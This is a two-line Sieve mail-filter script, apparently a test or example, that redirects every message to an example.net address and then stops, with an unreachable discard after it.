if true { redirect "s@example.net"; stop; }
discard;
